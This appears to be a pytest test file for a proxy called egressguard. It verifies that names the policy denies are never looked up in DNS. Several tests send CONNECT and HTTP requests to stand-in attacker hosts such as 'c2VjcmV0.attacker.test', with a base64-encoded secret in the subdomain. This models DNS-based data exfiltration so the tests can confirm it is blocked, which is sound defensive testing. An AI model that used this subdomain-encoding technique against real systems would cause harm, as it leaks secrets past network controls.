"""A name the policy denies whatever it resolves to is never looked up: the DNS query
itself would carry data out (`CONNECT <secret>.attacker.example:443`). Names are decided
by name rules; an address-based network rule (IP/CIDR, service tag, `*`) makes names
resolvable only when it opts in with `match_resolved_names` (spec section 4 step 5).

The last test runs `egressguard serve` with the system resolver inside a network namespace
whose /etc/resolv.conf points at a DNS server that records every query it receives."""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from egressguard.engine.normalize import IPAddress
from egressguard.gateway import Resolver
from tests.gateway.conftest import CLOSED_POLICY, LOOPBACK_POLICY

pytestmark = pytest.mark.timeout(30)

ALLOW_NAMES = """
restrict_outbound_network_access: Enabled
application_rule_collections:
  - name: apps
    rules:
      - {name: allowed, targets: ['*.allowed.test'], protocols: ['http:*', 'https:*']}
"""


class CountingResolver(Resolver):
    """The gateway's resolver (no system lookups here), recording every name asked."""

    def __init__(self) -> None:
        super().__init__({}, system=False)
        self.asked: list[str] = []

    async def resolve(self, name: str, port: int) -> tuple[IPAddress, ...]:
        self.asked.append(name)
        return await super().resolve(name, port)


def _connect(proxy_port: int, target: str) -> bytes:
    with socket.create_connection(("127.0.0.1", proxy_port), timeout=5) as sock:
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        return sock.recv(4096)


def test_denied_connect_name_carrying_a_secret_is_never_looked_up(gateway_factory) -> None:
    resolver = CountingResolver()
    gw = gateway_factory(CLOSED_POLICY, resolver=resolver)
    reply = _connect(gw.port, "c2VjcmV0.attacker.test:443")
    assert reply.startswith(b"HTTP/1.1 403") and b"X-Egressguard-Rule: default" in reply
    assert resolver.asked == []


def test_denied_http_name_is_never_looked_up(gateway_factory) -> None:
    resolver = CountingResolver()
    gw = gateway_factory(CLOSED_POLICY, resolver=resolver)
    r = httpx.get("http://c2VjcmV0.attacker.test/x", proxy=gw.url)
    assert r.status_code == 403 and resolver.asked == []


def test_allowed_name_is_looked_up_before_it_is_decided_with_its_addresses(
        gateway_factory) -> None:
    resolver = CountingResolver()
    gw = gateway_factory(ALLOW_NAMES, resolver=resolver)
    reply = _connect(gw.port, "api.allowed.test:443")
    assert reply.startswith(b"HTTP/1.1 502")  # looked up, and not resolvable here
    assert resolver.asked == ["api.allowed.test"]


def test_names_are_looked_up_when_a_network_rule_opts_in_to_resolved_names(
        gateway_factory) -> None:
    # `match_resolved_names: true`: the verdict depends on the addresses, so the name must
    # be resolved to be decided (the operator accepted that cost).
    resolver = CountingResolver()
    gw = gateway_factory(LOOPBACK_POLICY, resolver=resolver)
    assert "match_resolved_names: true" in LOOPBACK_POLICY
    _connect(gw.port, "elsewhere.test:443")
    assert resolver.asked == ["elsewhere.test"]


ADDRESS_RULES = """
restrict_outbound_network_access: Enabled
network_rule_collections:
  - name: addresses
    rules:
      - {name: loopback, destinations: [127.0.0.1/32], protocols: [TCP]}
      - {name: public, destinations: [93.184.216.0/24]}
      - {name: anything, destinations: ['*']}
"""


@pytest.mark.parametrize("target", ["c2VjcmV0.attacker.test:443", "c2VjcmV0.attacker.test:22"])
def test_address_network_rules_do_not_make_a_denied_name_resolvable(
        gateway_factory, target: str) -> None:
    resolver = CountingResolver()
    gw = gateway_factory(ADDRESS_RULES, resolver=resolver)
    reply = _connect(gw.port, target)
    assert reply.startswith(b"HTTP/1.1 403") and b"X-Egressguard-Rule: default" in reply
    r = httpx.get("http://c2VjcmV0.attacker.test/x", proxy=gw.url)
    assert r.status_code == 403
    assert resolver.asked == []
    # The same rules still decide IP literals: `*` allows a public address outright.
    assert gw.holder.current.decides_by_address is False


# -- through the system resolver, in a network namespace -----------------------------------

RECORDING_DNS = r"""
import socket, sys
from dnslib import QTYPE, RCODE, RR
from dnslib.server import BaseResolver, DNSLogger, DNSServer
log = open(sys.argv[1], "a", buffering=1)
ZONE = {"allowed.test.": "127.0.0.1", "opted.test.": "127.0.0.1"}
class Recording(BaseResolver):
    def resolve(self, request, handler):
        name = str(request.q.qname).lower()
        log.write(f"{name} {QTYPE[request.q.qtype]}\n")
        reply = request.reply()
        if name not in ZONE:
            reply.header.rcode = RCODE.NXDOMAIN
        elif request.q.qtype == QTYPE.A:
            reply.add_answer(*RR.fromZone(f"{name} 5 IN A {ZONE[name]}"))
        return reply
quiet = DNSLogger(log="-recv,-send,-request,-reply,-truncated,-error,-data")
for tcp in (False, True):
    server = DNSServer(Recording(), address="127.0.0.1", port=53, tcp=tcp, logger=quiet)
    server.start_thread()
target = socket.create_server(("127.0.0.1", 8443))
print("ready", flush=True)
while True:
    conn, _ = target.accept()
    conn.sendall(b"hello from the namespace\n")
    conn.close()
"""
CONNECT_CLIENT = r"""
import socket, sys
sock = socket.create_connection(("127.0.0.1", 3128), timeout=10)
sock.sendall(f"CONNECT {sys.argv[1]} HTTP/1.1\r\nHost: {sys.argv[1]}\r\n\r\n".encode())
data = b""
while b"\r\n\r\n" not in data:
    chunk = sock.recv(4096)
    if not chunk:
        break
    data += chunk
if data.startswith(b"HTTP/1.1 200"):
    data = data.split(b"\r\n\r\n", 1)[1]
    while b"\n" not in data:
        chunk = sock.recv(4096)
        if not chunk:
            break
        data += chunk
    print("200", data.decode().strip())
else:
    print(data.split(b"\r\n", 1)[0].decode())
"""
NS_POLICY = """
restrict_outbound_network_access: Enabled
network_rule_collections:
  - name: addresses
    rules:
      - {name: loopback, destinations: [127.0.0.1/32], protocols: [TCP]LOOPBACK_OPT}
      - {name: azure, destinations: [AzureCloud.westeurope]}
      - {name: anything, destinations: ['*']}
application_rule_collections:
  - name: apps
    rules: [{name: allowed, targets: [allowed.test], protocols: ['https:*']}]
"""


class Namespace:
    """A network namespace of this test run, with its own resolv.conf (ip netns exec
    bind-mounts /etc/netns/<name>/resolv.conf over /etc/resolv.conf)."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.etc = Path("/etc/netns") / name

    def create(self) -> None:
        subprocess.run(["ip", "netns", "add", self.name], check=True, capture_output=True)
        subprocess.run(["ip", "-n", self.name, "link", "set", "lo", "up"], check=True)
        self.etc.mkdir(parents=True)
        (self.etc / "resolv.conf").write_text("nameserver 127.0.0.1\n"
                                              "options timeout:2 attempts:1\n")

    def exec(self, *args: str) -> list[str]:
        return ["ip", "netns", "exec", self.name, *args]

    def delete(self) -> None:
        subprocess.run(["ip", "netns", "del", self.name], capture_output=True)
        shutil.rmtree(self.etc, ignore_errors=True)
        with contextlib.suppress(OSError):  # /etc/netns too, if no other namespace uses it
            self.etc.parent.rmdir()


@pytest.fixture
def namespace() -> Iterator[Namespace]:
    if os.geteuid() != 0 or shutil.which("ip") is None:
        pytest.skip("needs root and iproute2 to create a network namespace")
    ns = Namespace(f"egdnsleak{os.getpid()}")
    try:
        ns.create()
    except (subprocess.CalledProcessError, OSError) as exc:
        ns.delete()
        pytest.skip(f"cannot create a network namespace: {exc}")
    yield ns
    ns.delete()
    assert not ns.etc.exists()
    assert ns.name not in subprocess.run(["ip", "netns", "list"], capture_output=True,
                                         text=True).stdout


def _wait_for(path: Path, text: str, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while text not in path.read_text():
        assert time.monotonic() < deadline, f"{text!r} not in {path}:\n{path.read_text()}"
        time.sleep(0.05)


@pytest.mark.timeout(90)
def test_system_resolver_never_sends_a_query_for_a_name_no_rule_could_allow(
        namespace: Namespace, tmp_path: Path) -> None:
    from egressguard.catalog.servicetags import import_file
    from tests.catalog.conftest import FIXTURE_TAGS

    home = tmp_path / "home"
    env = {**os.environ, "EGRESSGUARD_HOME": str(home), "PYTHONUNBUFFERED": "1"}
    previous = os.environ.get("EGRESSGUARD_HOME")
    os.environ["EGRESSGUARD_HOME"] = str(home)
    try:
        import_file(FIXTURE_TAGS)  # the service tag rule must compile in the gateway
    finally:
        if previous is None:
            del os.environ["EGRESSGUARD_HOME"]
        else:
            os.environ["EGRESSGUARD_HOME"] = previous
    queries, gateway_log = tmp_path / "queries.log", tmp_path / "gateway.log"
    queries.touch()
    policy = tmp_path / "policy.yaml"
    policy.write_text(NS_POLICY.replace("LOOPBACK_OPT", ""))
    procs: list[subprocess.Popen[str]] = []

    def client(target: str) -> str:
        done = subprocess.run(namespace.exec(sys.executable, "-c", CONNECT_CLIENT, target),
                              capture_output=True, text=True, timeout=30)
        return done.stdout.strip() or done.stderr.strip()

    def asked() -> list[str]:
        time.sleep(0.3)  # a query would have arrived by now (the client already has 403)
        return queries.read_text().split()[::2]

    try:
        dns = subprocess.Popen(namespace.exec(sys.executable, "-c", RECORDING_DNS,
                                              str(queries)),
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        procs.append(dns)
        assert dns.stdout is not None and dns.stdout.readline().strip() == "ready"
        with gateway_log.open("w") as log:
            gateway = subprocess.Popen(
                namespace.exec(str(Path(sys.executable).parent / "egressguard"), "serve",
                               "--policy", str(policy), "--listen", "127.0.0.1:3128",
                               "--no-api", "--no-audit", "--system-resolver"),
                stdout=log, stderr=subprocess.STDOUT, text=True, env=env)
        procs.append(gateway)
        _wait_for(gateway_log, "listening on 127.0.0.1:3128")

        # IP/CIDR, service tag and `*` rules, none opted in: the secret never leaves.
        assert client("c2VjcmV0LWtleQ.attacker.example:443").startswith("HTTP/1.1 403")
        assert client("c2VjcmV0LWtleQ.attacker.example:8443").startswith("HTTP/1.1 403")
        assert asked() == []
        # A name the application rules allow is resolved by the system resolver and allowed.
        assert client("allowed.test:8443") == "200 hello from the namespace"
        assert set(asked()) == {"allowed.test."}
        # A name only the CIDR rule covers is not allowed, and is not looked up either.
        assert client("opted.test:8443").startswith("HTTP/1.1 403")
        assert set(asked()) == {"allowed.test."}

        # Opting the CIDR rule in: names are resolved, and allowed into its range.
        policy.write_text(NS_POLICY.replace("LOOPBACK_OPT", ", match_resolved_names: true"))
        gateway.send_signal(signal.SIGHUP)
        _wait_for(gateway_log, "loaded: version")
        assert client("opted.test:8443") == "200 hello from the namespace"
        assert "opted.test." in asked()
    finally:
        for proc in procs:
            proc.terminate()
        for proc in procs:
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait(5)
    assert "Traceback" not in gateway_log.read_text()
